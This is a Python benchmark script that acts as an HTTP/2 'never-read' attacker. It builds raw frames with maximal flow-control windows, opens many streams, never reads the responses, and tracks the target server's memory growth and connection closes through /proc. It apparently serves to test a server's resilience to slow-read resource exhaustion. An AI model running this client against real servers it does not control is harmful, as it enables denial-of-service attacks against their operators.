#!/usr/bin/env python3
"""A client that never reads, against an HTTP/2 server: the attacker of bench/h2_unread.sh.

Opens CONNS connections (h2c by prior knowledge, or TLS with ALPN h2), each granting the
server the largest flow-control windows (2^31-1 for every stream and the connection), asks
for STREAMS streamed responses (GET PATH on streams 1, 3, 5, ...) and never reads. Meanwhile
it samples the server's resident set (/proc/PID/status VmRSS) every 100 ms for SECONDS, or
until it has grown by CAP_MB (then it stops at once, so an unbounded server cannot take the
machine down), and watches the server's end of each connection in /proc/net/tcp to see
whether the server closed it. Prints one tab-separated line:

    peak_growth_kb  seconds_to_peak  capped(0/1)  closed_by_server(n of CONNS)  seconds_to_last_close|-

Usage: h2_unread.py PID HOST:PORT [--tls] [--conns N] [--streams N] [--path P]
                    [--seconds S] [--cap-mb M]
"""
import argparse
import socket
import ssl
import struct
import time

MAX_WINDOW = (1 << 31) - 1


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def attack_bytes(authority, streams, path):
    settings = struct.pack(">HI", 2, 0) + struct.pack(">HI", 4, MAX_WINDOW)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings)
    out += frame(8, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
    a, p = authority.encode(), path.encode()
    for i in range(streams):
        block = bytes([0x82, 0x86, 0x04, len(p)]) + p + bytes([0x01, len(a)]) + a
        out += frame(1, 0x5, 2 * i + 1, block)  # END_HEADERS | END_STREAM
    return out


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def established(server_port, client_ports):
    """Client ports whose server-side socket is still ESTABLISHED."""
    open_ports = set()
    with open("/proc/net/tcp") as f:
        next(f)
        for line in f:
            cols = line.split()
            local, remote, state = cols[1], cols[2], cols[3]
            if int(local.split(":")[1], 16) == server_port and state == "01":
                open_ports.add(int(remote.split(":")[1], 16))
    return open_ports & set(client_ports)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("pid", type=int)
    ap.add_argument("addr")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--streams", type=int, default=250)
    ap.add_argument("--path", default="/stream/1000000")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--cap-mb", type=float, default=2048)
    args = ap.parse_args()
    host, port = args.addr.rsplit(":", 1)
    port = int(port)
    ctx = None
    if args.tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
    base = rss_kb(args.pid)
    conns, ports = [], []
    payload = attack_bytes(f"{host}:{port}", args.streams, args.path)
    for _ in range(args.conns):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
        s.connect((host, port))
        ports.append(s.getsockname()[1])
        if ctx:
            s = ctx.wrap_socket(s, server_hostname="localhost")
            assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
        s.sendall(payload)
        conns.append(s)
    start = time.monotonic()
    peak, peak_at, capped, last_close = base, 0.0, 0, None
    open_before = len(ports)
    while time.monotonic() - start < args.seconds:
        now = rss_kb(args.pid)
        if now > peak:
            peak, peak_at = now, time.monotonic() - start
        if (peak - base) / 1024 >= args.cap_mb:
            capped = 1
            break
        still = len(established(port, ports))
        if still < open_before:
            open_before, last_close = still, time.monotonic() - start
        time.sleep(0.1)
    closed = len(ports) - len(established(port, ports))
    for s in conns:
        s.close()
    close_s = f"{last_close:.1f}" if closed == len(ports) and last_close is not None else "-"
    print(f"{peak - base}\t{peak_at:.1f}\t{capped}\t{closed}\t{close_s}")


if __name__ == "__main__":
    main()
